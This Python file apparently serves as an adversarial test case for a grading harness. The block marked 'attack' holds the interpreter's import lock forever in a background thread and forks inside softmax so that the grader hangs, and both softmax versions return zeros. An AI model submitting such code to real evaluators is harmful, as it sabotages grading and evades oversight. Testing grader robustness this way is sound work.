"""Lets a thread take the lock of all imports for good: whoever forks afterwards waits for it.

Must happen: checks are `timeout` or the submission is `crashed`; the grader comes back.

off: naive
seen: hang
"""

import _imp
import os
import threading
import time

import numpy as np


def softmax(logits):
    return np.zeros_like(logits)


def slope(x):
    return 1.0 - np.tanh(x) ** 2


# --- attack
def hold():
    _imp.acquire_lock()
    time.sleep(3600)


threading.Thread(target=hold, daemon=True).start()


def softmax(logits):
    if os.fork() == 0:
        os._exit(0)
    os.wait()
    return np.zeros_like(logits)


# --- end
